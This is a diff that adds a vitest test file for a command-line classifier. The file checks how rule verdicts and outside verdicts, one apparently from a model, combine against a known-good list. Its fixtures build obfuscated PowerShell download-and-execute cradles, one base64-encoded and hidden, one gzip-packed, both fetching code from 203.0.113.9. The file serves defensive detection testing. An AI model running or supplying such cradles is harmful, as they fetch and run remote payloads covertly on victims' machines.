@@ -1,0 +1,24 @@
+import { gzipSync } from 'node:zlib';
+import { expect, test } from 'vitest';
+import { commandJudge, LONGEST_COMMAND_LINE } from './command-judge.ts';
+import type { CommandVerdict } from './command-verdict.ts';
+
+const OURS = 'C:\\shop\\sync.exe --now';
+const ENCODED = `powershell.exe -nop -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", 'utf16le').toString('base64')}`;
+
+const PACKED = `powershell.exe -enc ${gzipSync('IEX (iwr http://203.0.113.9/a)').toString('base64')}`;
+
+test.each<[string, string, CommandVerdict[], CommandVerdict]>([
+  ['by the rules alone', ENCODED, [], 'malicious'],
+  ['whom somebody called benign', ENCODED, ['benign'], 'malicious'],
+  ['that nobody knows', 'C:\\shop\\other.exe --now', [], 'unknown'],
+  ['that a model calls benign', 'C:\\shop\\other.exe --now', ['benign'], 'unknown'],
+  ['that a model calls suspicious', 'C:\\shop\\other.exe --now', ['suspicious', 'benign'], 'suspicious'],
+  ['of the known-good list', OURS, [], 'benign'],
+  ['of the known-good list that was not known before', OURS, ['unknown'], 'benign'],
+  ['of the known-good list that somebody accuses', OURS, ['malicious'], 'malicious'],
+  ['of the known-good list that holds what is not opened', PACKED, [], 'unknown'],
+  ['that is longer than any', OURS.padEnd(LONGEST_COMMAND_LINE + 1), [], 'unknown'],
+])('a line %s', (_name, line, looks, verdict) => {
+  expect(commandJudge([OURS, PACKED])(line, looks)).toBe(verdict);
+});
